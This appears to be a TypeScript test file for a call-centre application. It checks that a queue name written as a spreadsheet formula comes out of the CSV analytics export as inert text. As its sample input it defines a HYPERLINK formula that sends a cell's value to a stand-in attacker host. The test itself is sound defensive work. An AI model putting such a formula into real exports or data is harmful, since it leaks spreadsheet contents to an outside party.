import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { SimulatedCall, httpLink } from '@griot/connectors/voice/testing';
import { startTestServer, userWithRoles, type TestServer } from './helpers/testServer.ts';
import type { ApiClient } from './helpers/http.ts';

/**
 * A queue's name is text a supervisor chooses (configuring a queue, which agents may then transfer
 * to), and a flow's editor too (the handoff node's template). A supervisor opens the CSV export in a
 * spreadsheet: a name that starts like a formula must arrive as text, never run as one.
 */
const SECRET = 'jambonz-csv-secret';
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")';
let server: TestServer;
let agent: ApiClient;
let supervisor: ApiClient;

beforeAll(async () => {
  server = await startTestServer({ env: { GRIOT_DEMO: '1', JAMBONZ_WEBHOOK_SECRET: SECRET } });
  agent = await userWithRoles(server, 'awa', ['agent']);
  supervisor = await userWithRoles(server, 'sena', ['supervisor']);
}, 60_000);
afterAll(() => server.stop());

const period = () => {
  const hour = 3_600_000;
  return `from=${new Date(Date.now() - hour).toISOString()}&to=${new Date(Date.now() + hour).toISOString()}`;
};

describe('the queue figures as CSV', () => {
  it('carry a queue named like a formula as text, not as a formula', async () => {
    const call = new SimulatedCall(httpLink(server.url, { secret: SECRET }), { callSid: 'CA-csv-1', from: '+2290197000001', to: '1919' });
    await call.start();
    if (call.heard.join(' ').includes('Pour le français')) await call.press('1');
    await call.press('4');
    expect(call.waitingOn).toMatchObject({ verb: 'enqueue', name: 'support-fr' });
    const queues = (await agent.get('/api/agent/queues')).body as Array<{ queue: string; contacts: Array<{ id: string }> }>;
    const contact = queues.find((q) => q.queue === 'support-fr')!.contacts[0]!;
    const settings = { callbackAfterSeconds: 120, timezone: 'Africa/Porto-Novo', weeklyHours: {}, holidays: [] };
    expect((await supervisor.call('PUT', `/api/agent/queues/${encodeURIComponent(FORMULA)}/settings`, settings)).status).toBe(200);
    expect((await agent.post(`/api/agent/contacts/${contact.id}/transfer`, { queue: FORMULA })).status).toBe(200);
    await server.services.conversations.idle();

    const answer = await supervisor.call('GET', `/api/queues/analytics?${period()}&format=csv&table=queues`, undefined, { accept: 'text/csv' });
    expect(answer.status).toBe(200);
    const rows = parseCsv(answer.body as string, { columns: true }) as Array<Record<string, string>>;
    const names = rows.map((r) => r.queue!);
    expect(names).toContain('support-fr');
    expect(names.some((name) => name.includes('HYPERLINK'))).toBe(true);
    for (const name of names) expect(name, 'a cell a spreadsheet would run').not.toMatch(/^[=+\-@\t\r]/);
  });
});
